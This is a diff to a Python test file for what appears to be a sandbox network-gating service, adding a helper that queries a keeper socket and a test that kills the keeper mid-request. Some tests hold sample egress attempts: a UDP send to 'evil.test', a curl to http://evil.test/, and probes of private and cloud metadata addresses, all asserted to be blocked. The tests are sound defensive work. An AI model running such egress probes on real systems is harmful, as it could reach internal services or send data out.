@@ -5,6 +5,7 @@ import os
 import pathlib
 import signal
 import socket
+import struct
 import sys
 import threading
 
@@ -212,15 +213,21 @@ def network_links(service, box):
 
 
 def gate_of(service, box):
+    return json.loads(ask_keeper(service, box, b"network\n")[0])["gate"]
+
+
+def ask_keeper(service, box, request):
+    """What the keeper of the box answers, and its process."""
     (path,) = service.state.glob(f"**/{box['id']}/keeper.sock")
     with socket.socket(socket.AF_UNIX) as s:
         s.settimeout(PATIENCE)
         s.connect(str(path))
-        s.sendall(b"network\n")
+        (pid,) = struct.unpack_from("i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
+        s.sendall(request)
         text = b""
         while part := s.recv(65536):
             text += part
-    return json.loads(text)["gate"]
+    return text, pid
 
 
 def test_too_many_questions(service, box):
@@ -240,8 +247,8 @@ def test_other_ways_out_stay_closed(world, service, box):
     admin, since = service.client(), len(world.internet.lines())
     for target in (outside.PRIVATE, outside.METADATA, "127.0.0.53:81"):
         assert Running(admin, box, GET.format(target)).end()[0] != 0
-    udp = "python3 -c \"import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('evil.test', 9)); s.send(b'x'); s.settimeout(5); s.recv(9)\""
-    assert Running(admin, box, udp).end()[0] != 0
+    send = "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('evil.test', 9)); s.send(b'x')"
+    assert Running(admin, box, f'python3 -c "{send}; s.settimeout(5); s.recv(9)"').end()[0] != 0
     assert pending(admin, box, 0) == []
     asking = Running(service.client(), box, "curl -sS -m 50 -w '%{http_code}' -H 'Host: other.test' http://evil.test/")
     (one,) = pending(admin, box)
@@ -329,6 +336,16 @@ def test_the_gate_is_killed(world, service, box):
     (one,) = pending(admin, box)
     answer(admin, box, one).ok()
     assert asking.end()[0] == 0
+
+
+def test_the_keeper_is_killed(world, service, box):
+    admin, since = service.client(), len(world.internet.lines())
+    assert Running(admin, box, f"{GET.format('evil.test')} >/dev/null 2>&1 &").end()[0] == 0
+    (one,) = pending(admin, box)
+    keeper = ask_keeper(service, box, b"status\n")[1]
+    os.kill(keeper, signal.SIGKILL)
+    pending(admin, box, 0)
+    assert answer(admin, box, one).status == 409 and not looked_up(world, "evil.test", since)
 
 
 def test_on_the_command_line(service, box):
